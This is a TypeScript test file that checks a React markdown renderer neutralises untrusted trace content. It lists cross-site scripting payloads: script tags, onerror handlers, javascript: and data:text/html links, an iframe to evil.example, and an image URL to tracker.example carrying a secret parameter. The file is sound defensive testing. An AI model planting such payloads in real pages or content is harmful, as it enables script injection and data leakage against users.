import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { MarkdownText } from "@/components/traces/content/markdown-text";

// Trace content is untrusted (model output, retrieved documents, end-user input). These are the
// payloads a prompt injection would plant; none may survive as live HTML.
const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "[x](javascript:alert(1))",
  "[y](JAVASCRIPT:alert(1))",
  "[z](  javascript:alert(1))",
  '<a href="javascript:alert(1)">raw link</a>',
  "![pic](javascript:alert(1))",
  "[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  '<iframe src="https://evil.example"></iframe>',
  '<div onclick="alert(1)" style="background:url(javascript:alert(1))">x</div>',
].join("\n\n");

function render(markdown: string): string {
  return renderToStaticMarkup(<MarkdownText>{markdown}</MarkdownText>);
}

describe("MarkdownText safety", () => {
  it("renders hostile input inert", () => {
    const html = render(HOSTILE).toLowerCase();
    expect(html).not.toContain("<script");
    expect(html).not.toContain("onerror=");
    expect(html).not.toContain("javascript:");
    expect(html).not.toContain("data:text/html");
    expect(html).not.toContain("<iframe");
    expect(html).not.toContain("onclick=");
    expect(html).not.toContain("<img");
  });

  it("keeps each payload inert on its own", () => {
    for (const payload of ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[x](javascript:alert(1))"]) {
      const html = render(payload).toLowerCase();
      expect(html, payload).not.toContain("<script");
      expect(html, payload).not.toContain("onerror=");
      expect(html, payload).not.toContain("javascript:");
    }
  });

  it("still renders ordinary markdown and safe links", () => {
    const html = render(
      "**bold** and [docs](https://mlflow.org/docs) and [mail](mailto:a@example.com)\n\n| a | b |\n|---|---|\n| 1 | 2 |",
    );
    expect(html).toContain("<strong>bold</strong>");
    expect(html).toContain('href="https://mlflow.org/docs"');
    expect(html).toContain('rel="noopener noreferrer nofollow ugc"');
    expect(html).toContain('href="mailto:a@example.com"');
    expect(html).toContain("<table");
  });

  it("shows images as links instead of loading them", () => {
    const html = render("![chart](https://tracker.example/p.png?d=secret)");
    expect(html).not.toContain("<img");
    expect(html).toContain('href="https://tracker.example/p.png?d=secret"');
    expect(html).toContain("[image: chart]");
  });
});
